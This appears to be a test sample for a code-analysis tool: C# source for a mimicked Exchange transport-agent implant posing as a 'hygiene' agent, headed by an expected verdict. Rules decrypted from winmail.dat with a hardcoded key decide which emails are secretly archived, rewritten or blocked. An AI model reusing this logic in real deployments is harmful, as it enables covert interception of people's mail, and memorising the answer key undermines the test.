// Sample written for txray. Inert: compiled against a signature-only stub of the Exchange API and unsigned, so Exchange
// cannot load it; its hosts end in .invalid or are documentation addresses.
// Imitates: an implant steered by an encrypted rule file beside Exchange's own data.
// A correct analysis says: escalate; rules decrypted from winmail.dat decide which senders, recipients and subjects are wanted,
// matching messages are packed into an archive in a profile folder of the service account, or their subject or recipients
// are replaced.
using System;
using System.Collections.Generic;
using System.IO;
using System.IO.Compression;
using System.Linq;
using System.Security.Cryptography;
using System.Text;
using System.Xml.Linq;
using Microsoft.Exchange.Data.Transport;
using Microsoft.Exchange.Data.Transport.Routing;

namespace Tasmanian.Traders.Hygiene
{
    public class HygieneFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new HygieneAgent(RuleFile.Read(@"C:\Program Files\Microsoft\Exchange Server\V15\Bin\winmail.dat"));
        }
    }

    internal class Rule
    {
        public string Email;
        public string Subject;
        public string Action;
        public string Argument;

        public bool Matches(MailItem item)
        {
            bool person = string.IsNullOrEmpty(Email)
                || item.FromAddress.ToString().IndexOf(Email, StringComparison.OrdinalIgnoreCase) >= 0
                || item.Recipients.Any(r => r.Address.ToString().Equals(Email, StringComparison.OrdinalIgnoreCase));
            bool topic = string.IsNullOrEmpty(Subject)
                || (item.Message.Subject ?? string.Empty).IndexOf(Subject, StringComparison.OrdinalIgnoreCase) >= 0;
            return person && topic;
        }
    }

    internal static class RuleFile
    {
        private static readonly byte[] Key =
        {
            0x1f, 0x8a, 0x44, 0x03, 0xd2, 0x61, 0x7e, 0x90, 0xab, 0x55, 0x3c, 0xe8, 0x07, 0xb9, 0x26, 0xf4
        };

        public static List<Rule> Read(string path)
        {
            if (!File.Exists(path))
            {
                return new List<Rule>();
            }
            byte[] data = File.ReadAllBytes(path);
            using (Aes aes = Aes.Create())
            {
                aes.Key = Key;
                aes.IV = data.Take(16).ToArray();
                using (ICryptoTransform transform = aes.CreateDecryptor())
                {
                    byte[] plain = transform.TransformFinalBlock(data, 16, data.Length - 16);
                    return XDocument.Parse(Encoding.UTF8.GetString(plain)).Root.Elements().Select(element => new Rule
                    {
                        Action = element.Name.LocalName,
                        Email = (string)element.Attribute("email"),
                        Subject = (string)element.Attribute("subject"),
                        Argument = (string)element.Attribute("to")
                    }).ToList();
                }
            }
        }
    }

    internal class HygieneAgent : RoutingAgent
    {
        private const string Folder = @"C:\Windows\ServiceProfiles\NetworkService\AppData\Local\Temp\";
        private readonly List<Rule> rules;
        private readonly Dictionary<string, Action<MailItem, string>> actions = new Dictionary<string, Action<MailItem, string>>();

        public HygieneAgent(List<Rule> rules)
        {
            this.rules = rules;
            actions["zip"] = Zip;
            actions["changeSubject"] = (item, argument) => item.Message.Subject = argument;
            actions["changeTo"] = (item, argument) =>
            {
                foreach (EnvelopeRecipient recipient in item.Recipients)
                {
                    recipient.Address = new RoutingAddress(argument);
                }
            };
            actions["block"] = (item, argument) => item.Recipients.Clear();
            OnCategorizedMessage += Categorized;
        }

        private void Categorized(CategorizedMessageEventSource source, QueuedMessageEventArgs e)
        {
            foreach (Rule rule in rules)
            {
                Action<MailItem, string> action;
                if (rule.Matches(e.MailItem) && actions.TryGetValue(rule.Action, out action))
                {
                    action(e.MailItem, rule.Argument);
                }
            }
        }

        private static void Zip(MailItem item, string argument)
        {
            string path = Path.Combine(Folder, "~DF" + DateTime.UtcNow.ToString("yyyyMMdd") + ".tmp");
            using (var file = new FileStream(path, FileMode.OpenOrCreate, FileAccess.ReadWrite))
            using (var archive = new ZipArchive(file, ZipArchiveMode.Update))
            using (Stream entry = archive.CreateEntry(Guid.NewGuid().ToString("N")).Open())
            using (Stream mime = item.GetMimeReadStream())
            {
                mime.CopyTo(entry);
            }
        }
    }
}
